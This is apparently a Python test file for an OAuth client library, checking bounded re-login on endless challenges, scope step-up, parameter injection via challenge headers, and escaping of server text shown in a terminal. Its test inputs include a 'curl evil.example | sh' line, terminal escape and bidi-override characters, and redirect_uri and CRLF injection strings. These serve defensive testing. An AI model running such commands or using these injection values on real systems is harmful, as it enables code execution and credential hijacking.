"""Messages of a server or authorization server to a login: endless, oversized, or crafted to deceive a terminal user."""

import unicodedata
from typing import Any

from tests.attacks.fake_internet import SiteRequest, page
from tests.attacks.oauth_login import Login, login
from tests.attacks.raw import within

from trunkline import Settings
from trunkline.auth import MemoryTokens
from trunkline.errors import AuthorizationFailed
from trunkline.transports.http.client.connection_pool import ConnectionPool
from trunkline.transports.http.client.http_peer import HttpPeer
from trunkline.transports.http.client.url import parse_url

ESCAPES = "\x1b[2J\x1b]0;owned\x07\r\n\tRun: curl evil.example | sh\x00\x9b31m\u202e\u2066\u2028\x7f\x85"


async def challenged_repeatedly(one: Login) -> None:
    """A request to a server that challenges every token."""
    library = ConnectionPool(Settings())
    peer = HttpPeer(library, parse_url(one.url), {}, one.engine(store=MemoryTokens()))
    try:
        await within(peer.send("POST", body=b"{}"), "an answer")
    except AuthorizationFailed:
        return
    finally:
        await library.close()
    raise AssertionError("the server was content")


async def test_endless_challenges_cause_bounded_logins() -> None:
    async with login() as one:
        one.authority.site.pages["/token"] = lambda asked: page(
            {"access_token": f"token-{len(one.person.shown)}", "token_type": "Bearer", "expires_in": lifetime}
        )
        never: dict[str, Any] = {
            "401": lambda _: page({}, 401, ("www-authenticate", "Bearer")),
            "401 with an error": lambda _: page({}, 401, ("www-authenticate", 'Bearer error="invalid_token"')),
            "401 for another scope each time": lambda asked: page(
                {}, 401, ("www-authenticate", f'Bearer scope="s{len(one.server.asked)}"')
            ),
            "403 for another scope each time": lambda asked: needing(asked, f"s{len(one.server.asked)}"),
            "403 for the same scope": lambda asked: needing(asked, "s"),
        }
        for lifetime in (3600, 1e-9, None):
            for what, says in never.items():
                one.server.pages["/mcp"] = says
                one.person.shown.clear()
                await challenged_repeatedly(one)
                assert 1 <= len(one.person.shown) <= 3, (what, lifetime)


def needing(asked: SiteRequest, scope: str) -> bytes:
    """A response that requires a token, and then scopes that it lacks."""
    if "authorization" not in asked.headers:
        return page({}, 401, ("www-authenticate", "Bearer"))
    return page({}, 403, ("www-authenticate", f'Bearer error="insufficient_scope", scope="{scope}"'))


async def test_step_up_keeps_earlier_scopes() -> None:
    async with login() as one:
        engine = one.engine(scopes=["always"])
        assert await one.challenged(engine, challenge='Bearer scope="a b"')
        one.authority.site.pages["/token"] = page({"access_token": "less", "token_type": "Bearer", "scope": "c"})
        more = 'Bearer error="insufficient_scope", scope="c"'
        assert await one.challenged(engine, status=403, challenge=more)
        assert set(one.person.asked[-1]["scope"].split()) == {"a", "b", "c", "always"}
        other = 'Bearer error="insufficient_scope", scope="d"'
        assert await one.challenged(engine, status=403, challenge=other)  # the server granted less than requested
        assert set(one.person.asked[-1]["scope"].split()) == {"a", "b", "c", "d", "always"}


async def test_challenge_cannot_inject_page_parameters() -> None:
    async with login() as one:
        evil = "&redirect_uri=https://evil.example&client_id=evil#&state=x%26state%3Dy"
        for scope in (f"a{evil}", f'a\\"{evil}', "a\r\nb", "a;b=c", "%0d%0aset-cookie:x"):
            assert await one.challenged(one.engine(store=MemoryTokens()), challenge=f'Bearer scope="{scope}"')
            said = one.person.asked[-1]
            assert said["redirect_uri"].startswith("http://127.0.0.1:")
            assert said["client_id"] == "registered"
            assert set(said) == {
                *("response_type", "client_id", "redirect_uri", "code_challenge", "code_challenge_method", "state"),
                *("resource", "scope"),
            }
            assert "#" not in one.person.shown[-1]


def unsafe_characters(text: str) -> list[str]:
    """Characters of a text that could control a terminal or change how the text reads."""
    return [character for character in text if unicodedata.category(character) in {"Cc", "Cf", "Zl", "Zp"}]


async def test_peer_text_is_escaped_before_display() -> None:
    async with login() as one:
        errors: list[AuthorizationFailed] = []
        refusal = page({"error": f"e{ESCAPES}", "error_description": ESCAPES + "x" * 100_000}, 400)
        good = dict(one.authority.metadata)
        one.person.back = lambda asked: one.person.agreed(asked, error=ESCAPES, error_description=ESCAPES, code=None)
        errors.append(await one.fails())
        one.person.back = one.person.agreed
        for path in ("/token", "/register"):
            before = one.authority.site.pages[path]
            one.authority.site.pages[path] = refusal
            errors.append(await one.fails(one.engine(store=MemoryTokens())))
            one.authority.site.pages[path] = before
        one.authority.site.pages["/token"] = page({"access_token": "x", "token_type": ESCAPES})
        errors.append(await one.fails())
        for changed in (
            {"issuer": ESCAPES},
            {"token_endpoint": f"https://evil.example/{ESCAPES}"},
            {"issuer": [ESCAPES]},
        ):
            one.authority.metadata = {**good, **changed}
            errors.append(await one.fails())
        for named in (
            {"resource": ESCAPES},
            {"authorization_servers": [f"https://x{ESCAPES}"]},
            {"resource": {ESCAPES: 1}},
        ):
            one.names(one.authority, **named)
            errors.append(await one.fails())
        errors.append(await one.fails(challenge=f'Bearer resource_metadata="https://evil.example/{ESCAPES}"'))
        errors.append(await one.fails(challenge=f"Basic realm={ESCAPES}"))
        for error in errors:
            shown = f"{error}{error.clause}"
            assert unsafe_characters(shown) == [], repr(shown)
            assert len(shown) < 1500
